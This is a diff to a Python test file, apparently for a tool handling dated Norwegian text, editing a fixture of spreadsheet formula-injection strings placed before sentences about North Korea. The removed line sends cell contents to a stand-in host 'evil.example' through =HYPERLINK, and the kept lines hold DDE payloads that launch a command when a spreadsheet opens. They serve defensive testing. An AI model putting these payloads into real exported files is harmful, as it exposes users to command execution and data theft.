@@ -248,7 +248,7 @@ def test_only_the_empty_file_among_several_is_named(tmp_path: Path) -> None:
 
 FORMULAS = (
     "date: 2019-04-26\nlang: nb\n\n"
-    '=HYPERLINK("http://evil.example/?"&A1) Putin møtte Kim 25. april 2019.\n\n'
+    '=HYPERLINK("evil"&A1) Putin møtte Kim 25. april 2019.\n\n'
     "+cmd|' /C calc'!A0 Sanksjonene kom i april 2009.\n\n"
     "@SUM(1+1)*cmd|' /C calc'!A0 Nord-Korea trakk seg i 2003.\n\n"
     "-2+3+cmd|' /C calc'!A0 Toppmøtet i Hanoi var i februar 2019.\n"
